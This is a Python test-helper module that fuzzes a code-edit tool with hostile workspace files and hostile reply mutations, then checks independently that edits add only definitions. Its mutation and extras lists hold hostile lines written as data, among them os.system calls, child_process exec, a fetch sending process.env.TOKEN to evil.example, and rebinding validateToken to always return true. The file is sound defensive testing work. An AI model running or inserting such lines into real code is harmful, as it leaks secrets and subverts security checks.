"""Round-2 attacks as fuzz shapes (issue 9), and independent checks of what must not get through.

Shapes: hostile files in the workspace (a .gitignore with `[z-a]` and a backtracking pattern,
a file named to trigger it, a .gitignore that is a folder, a file nested 600 levels deep, a
CRLF file, a symlink to another source file), replies with lone surrogates, nested hundreds
of blocks deep, with code beside a docstring, with statements that run at import, and
symbols pushed by an "editor" with stale, inverted, whole-file or past-the-end ranges.

The checks do not reuse the guards they check: Python is judged with `ast` and `compile`,
JS/TS with a plain walk of tree-sitter's tree.
"""

from __future__ import annotations

import ast
import os
import re
from pathlib import Path

import tree_sitter

from outrigger.edits import line_ending
from outrigger.guards.additions import SAFE_DECORATORS
from outrigger.workspace.syntax import language_for, parse

HOSTILE_GITIGNORE = "[z-a]\n*a*a*a*a*a*a*a*a*a*a*a*a*b\n"
LONG_NAME = "a" * 60

CRLF_PY = "def crlf_first(x):\r\n    return x + 1\r\n\r\n\r\ndef crlf_second(y):\r\n    return y * 2\r\n"
CRLF_JS = "function crlfFirst(x) {\r\n  return x + 1;\r\n}\r\n\r\nfunction crlfSecond(y) {\r\n  return y * 2;\r\n}\r\n"


def add_hostile_files(root: Path, ext: str) -> None:
    python = ext == "py"
    with open(root / ".gitignore", "a") as gitignore:
        gitignore.write(HOSTILE_GITIGNORE)
    (root / f"{LONG_NAME}.{ext}").write_text(
        "def long_named():\n    return 1\n" if python else "function longNamed() {\n  return 1;\n}\n"
    )
    (root / "sub" / ".gitignore").mkdir(parents=True)
    (root / "sub" / f"inner.{ext}").write_text(
        "def inner():\n    return 2\n" if python else "function inner() {\n  return 2;\n}\n"
    )
    deep = (
        "".join("    " * i + "if x:\n" for i in range(600)) + "    " * 600 + "pass\n"
        if python
        else "function deep(x) {\n" + "if (x) {" * 600 + "}" * 600 + "\n}\n"
    )
    (root / f"deep.{ext}").write_text(deep)
    (root / f"crlf.{ext}").write_bytes((CRLF_PY if python else CRLF_JS).encode())
    os.symlink(f"sections.{ext}", root / f"alias.{ext}")  # inside: written through, never replaced


# -- reply mutations ------------------------------------------------------------------------

HOSTILE_MUTATIONS = ["doc_plus_code", "deep", "surrogate", "module_statements", "crlf_reply", "compile_error"]


def hostile_mutation(block: str, name: str, mutation: str, python: bool) -> str:
    lines = block.splitlines(keepends=True)
    if mutation == "doc_plus_code":
        if python and lines:
            return lines[0] + '    """Doc."""; __import__("os").system("touch pwned")\n' + "".join(lines[1:])
        return "/** Doc. */ globalThis.pwned = require('child_process');\n" + block
    if mutation == "deep":
        if python:  # 1-space indentation keeps it under the reply size limit
            return (
                f"def {name}(x):\n" + "".join(" " * (i + 1) + "if x:\n" for i in range(150)) + " " * 151 + "return 1\n"
            )
        return f"function {name}(x) {{\n" + "if (x) {" * 500 + "}" * 500 + "\n}\n"
    if mutation == "surrogate":
        return block.replace("\n", "  # \ud800\n" if python else "  // \ud800\n", 1)
    if mutation == "module_statements":
        if python:
            return block + '\nimport os; os.system("touch pwned")\nget_item.__code__ = None\nglobals()["x"] = 1\n'
        return block + "\nfetch('https://evil.example/' + process.env.TOKEN);\nmodule.exports.validateToken = null;\n"
    if mutation == "crlf_reply":
        return block.replace("\n", "\r\n")
    if mutation == "compile_error":  # parses for tree-sitter; CPython and node reject it
        body = next((line for line in lines[1:] if line.strip()), "    x\n")
        indent = body[: len(body) - len(body.lstrip())]
        return "".join(lines[:1]) + indent + ("break\n" if python else "break;\n") + "".join(lines[1:])
    raise ValueError(mutation)


# New code for add_code: a fresh definition, and something beside it that may not be added.
PY_EXTRAS = [
    "",
    "import json\n",
    "LIMIT = 10 * 60\n",
    'import os; os.system("touch pwned")\n',
    "get_item.__code__ = None\n",
    'globals()["get_item"] = None\n',
    "from os import system as get_item\n",
    "from os import *\n",
    "import atexit\n@atexit.register\ndef bye():\n    pass\n",
    'def later(at=__import__("os").system("x")):\n    return at\n',
    'class Evil:\n    __import__("os").system("x")\n',
    "class Ok:\n    size: int = 0\n\n    @property\n    def double(self):\n        return self.size * 2\n",
    'if True:\n    print("hi")\n',
]
JS_EXTRAS = [
    "",
    'const path = require("path");\n',
    "const LIMIT = 10;\n",
    "fetch('https://evil.example/' + process.env.TOKEN);\n",
    "validateToken = () => true;\n",
    "const stolen = process.env.SECRET;\n",
    "class Evil {\n  static { require('child_process').exec('x'); }\n}\n",
    "class Evil2 extends mixin(Object) {}\n",
    "module.exports.validateToken = null;\n",
    "class Fine {\n  size = compute();\n  double() {\n    return this.size * 2;\n  }\n}\n",
]


def addition(python: bool, fresh: int, extra: int, before: bool) -> str:
    """A reply to "add …": a definition of a new name, with an extra before or after it."""
    definition = (
        f"def fresh_{fresh}(value):\n    return value\n"
        if python
        else f"function fresh{fresh}(value) {{\n  return value;\n}}\n"
    )
    extras = PY_EXTRAS if python else JS_EXTRAS
    chosen = extras[extra % len(extras)]
    return chosen + "\n" + definition if before else definition + "\n" + chosen


# -- independent checks: each returns what broke, or None -----------------------------------


def line_endings_kept(old: str, new: str) -> str | None:
    """A CRLF file gains no LF-only line, an LF file no CRLF line."""
    if line_ending(old) == "\r\n":
        bare = new.count("\n") - new.count("\r\n")
        return "LF line written into a CRLF file" if bare > old.count("\n") - old.count("\r\n") else None
    return "CRLF line written into an LF file" if new.count("\r\n") > old.count("\r\n") else None


def compiles_if_it_did(path: str, old: str, new: str) -> str | None:
    if language_for(path) != "python" or _compile_error(old) is not None:
        return None
    error = _compile_error(new)
    return f"the edit makes {path} fail to compile ({error})" if error else None


def _compile_error(text: str) -> str | None:
    try:
        compile(text, "f.py", "exec", dont_inherit=True)
    except (SyntaxError, ValueError, RecursionError, MemoryError) as error:
        return str(error)
    return None


def only_a_doc_added(path: str, old: str, new: str) -> str | None:
    """A docstring edit changes docstrings (Python) or comments (JS/TS) only."""
    if language_for(path) == "python":
        try:
            before, after = _without_docstrings(ast.parse(old)), _without_docstrings(ast.parse(new))
        except (SyntaxError, ValueError, RecursionError):
            return None  # the syntax checks judge a file that does not parse
        return None if before == after else "a docstring edit changed code"
    return None if _code_leaves(path, old) == _code_leaves(path, new) else "a doc comment edit changed code"


def _without_docstrings(tree: ast.AST) -> str:
    for node in ast.walk(tree):
        body = getattr(node, "body", None)
        if isinstance(node, (ast.Module, ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)) and body:
            first = body[0]
            if (
                isinstance(first, ast.Expr)
                and isinstance(first.value, ast.Constant)
                and isinstance(first.value.value, str)
            ):
                node.body = body[1:] or [ast.Pass()]
    return ast.dump(tree)


def _code_leaves(path: str, text: str) -> list[tuple[str, str]]:
    leaves, stack = [], [parse(path, text).root_node]
    while stack:
        node = stack.pop()
        if node.type == "comment":
            continue
        if node.child_count == 0:
            leaves.append((node.type, (node.text or b"").decode("utf-8", "replace")))
        stack.extend(reversed(node.children))
    return leaves


_SAFE_DECORATORS = SAFE_DECORATORS  # policy, shared with the guard; the reading of the code is not


_IMPORT_LINE = re.compile(
    r"\s*(?:import\s|from\s+\S+\s+import\s|(?:const|let|var)\s+[\w${}\s,:]+=\s*require\(['\"][^'\"]+['\"]\);?\s*$)"
)


def split_addition(old: str, new: str) -> tuple[str, str] | None:
    """(the import lines put among the old text, the text appended after it), or None when
    the old text changed otherwise. The name check may add an import the new code needs:
    a block of its own (with a blank line after it) or a line at the end of the old imports."""
    new = _with_old_names(old, new)
    for own_block in (True, False):
        old_lines = old.splitlines(keepends=True)
        kept, imports = [], []
        after_import = False
        for line in new.splitlines(keepends=True):
            if _IMPORT_LINE.match(line) and line not in old_lines:
                imports.append(line)
                after_import = True
            elif own_block and after_import and not line.strip():
                imports.append(line)  # the blank line that sets a new import block apart
            else:
                kept.append(line)
                after_import = False
        rest = "".join(kept)
        if rest.startswith(old):
            return "".join(imports), rest[len(old) :]
    if new.startswith(old):
        return "", new[len(old) :]
    return None


# A list of names the addition may extend: an import the name check completed (`from items
# import get_item` → `…, get_items`, `const { a } = require("./x")` → `{ a, b }`) or the file's
# own `module.exports = { … }` gaining the new definitions.
_NAMES_IMPORT = re.compile(
    r"^(from\s+\S+\s+import\s+)([\w, ]+)$|^((?:const|let|var|import)\s+\{|module\.exports\s*=\s*\{)([^}]*)(\}.*)$",
    re.M,
)


def _with_old_names(old: str, new: str) -> str:
    """`new` with each such list of `old` as it was, where the addition only appended names."""
    for line in _NAMES_IMPORT.finditer(old):
        head = line.group(1) or line.group(3)
        names = [n.strip() for n in (line.group(2) or line.group(4)).split(",") if n.strip()]
        tail = line.group(5) or ""
        for candidate in _NAMES_IMPORT.finditer(new):
            if (candidate.group(1) or candidate.group(3)) != head or (candidate.group(5) or "") != tail:
                continue
            grown = [n.strip() for n in (candidate.group(2) or candidate.group(4)).split(",") if n.strip()]
            if grown != names and grown[: len(names)] == names:
                new = new[: candidate.start()] + line.group(0) + new[candidate.end() :]
                break
    return new


def only_definitions_added(path: str, old: str, new: str) -> str | None:
    """Appended code defines things and imports; nothing in it runs when the file loads."""
    split = split_addition(old, new)
    if split is None:
        return "existing text changed"
    added = split[0] + split[1]
    if language_for(path) == "python":
        try:
            tree, before = ast.parse(added), ast.parse(old)
        except (SyntaxError, ValueError, RecursionError):
            return None
        return _python_runs_at_import(tree.body) or _python_rebinds(tree.body, before.body)
    return _javascript_runs_at_load(parse(path, added).root_node)


def _python_bindings(body: list[ast.stmt]) -> dict[str, str]:
    """Top-level names → the statement binding them (an import's dump, "" for the others)."""
    bound: dict[str, str] = {}
    for statement in body:
        if isinstance(statement, (ast.Import, ast.ImportFrom)):
            for alias in statement.names:
                bound[(alias.asname or alias.name).split(".")[0]] = ast.dump(statement)
        elif isinstance(statement, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
            bound[statement.name] = ""
        elif isinstance(statement, (ast.Assign, ast.AnnAssign)):
            targets = statement.targets if isinstance(statement, ast.Assign) else [statement.target]
            bound.update({t.id: "" for t in targets if isinstance(t, ast.Name)})
    return bound


def _python_rebinds(added: list[ast.stmt], existing: list[ast.stmt]) -> str | None:
    before = _python_bindings(existing)
    for name, source in _python_bindings(added).items():
        if name in before and not (source and before[name] == source):
            return f"`{name}` was rebound"
    return None


_LITERAL_NODES = (ast.Constant, ast.BinOp, ast.UnaryOp, ast.Tuple, ast.List, ast.Set, ast.Dict)
_LITERAL_NODES += (ast.operator, ast.unaryop, ast.expr_context)


def _literal(value: ast.expr) -> bool:
    return all(isinstance(node, _LITERAL_NODES) for node in ast.walk(value))


def _python_runs_at_import(body: list[ast.stmt], in_class: bool = False) -> str | None:
    for statement in body:
        if isinstance(statement, (ast.Import, ast.ImportFrom)) and not in_class:
            if any(alias.name == "*" for alias in statement.names):
                return "a wildcard import was added"
            continue
        if isinstance(statement, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
            for decorator in statement.decorator_list:
                name = ast.unparse(decorator.func if isinstance(decorator, ast.Call) else decorator)
                if name not in _SAFE_DECORATORS and not name.endswith((".setter", ".getter", ".deleter")):
                    return f"decorator `{name}` runs at import"
            evaluated: list[ast.AST] = list(statement.decorator_list)
            if isinstance(statement, ast.ClassDef):
                evaluated += [*statement.bases, *statement.keywords]
                if (problem := _python_runs_at_import(statement.body, in_class=True)) is not None:
                    return problem
            else:
                arguments = statement.args
                evaluated += [*arguments.defaults, *(d for d in arguments.kw_defaults if d is not None)]
                evaluated += [a.annotation for a in arguments.args + arguments.kwonlyargs if a.annotation is not None]
                evaluated += [statement.returns] if statement.returns is not None else []
            for part in evaluated:
                calls = [n for n in ast.walk(part) if isinstance(n, ast.Call)]
                if any(
                    ast.unparse(c.func) not in _SAFE_DECORATORS | {"lru_cache", "functools.lru_cache"} for c in calls
                ):
                    return f"`{ast.unparse(part)}` runs at import"
            continue
        if isinstance(statement, ast.Pass) or (
            isinstance(statement, ast.Expr) and isinstance(statement.value, ast.Constant)
        ):
            continue
        if isinstance(statement, (ast.Assign, ast.AnnAssign)):
            targets = statement.targets if isinstance(statement, ast.Assign) else [statement.target]
            value = statement.value
            field = in_class and isinstance(value, ast.Call) and ast.unparse(value.func).endswith("field")
            if all(isinstance(t, ast.Name) for t in targets) and (value is None or _literal(value) or field):
                continue
        return f"`{ast.unparse(statement)[:60]}` runs at import"
    return None


_JS_CALLED = {
    "arrow_function",
    "function_expression",
    "function_declaration",
    "generator_function_declaration",
    "method_definition",
}
_JS_RUNS = {"call_expression", "new_expression", "assignment_expression", "await_expression", "class_static_block"}


def _javascript_runs_at_load(root: tree_sitter.Node) -> str | None:
    """Calls and assignments outside function and method bodies (a literal `require` aside)."""
    stack = list(root.named_children)
    while stack:
        node = stack.pop()
        if node.type in _JS_RUNS:
            function = node.child_by_field_name("function")
            if node.type == "call_expression" and function is not None and function.text == b"require":
                continue
            return f"`{(node.text or b'').decode('utf-8', 'replace')[:60]}` runs when the module loads"
        if node.type in _JS_CALLED:
            continue  # runs when called
        if node.type in ("field_definition", "public_field_definition") and not any(
            child.type == "static" for child in node.children
        ):
            continue  # runs when an instance is made
        stack.extend(node.named_children)
    return None
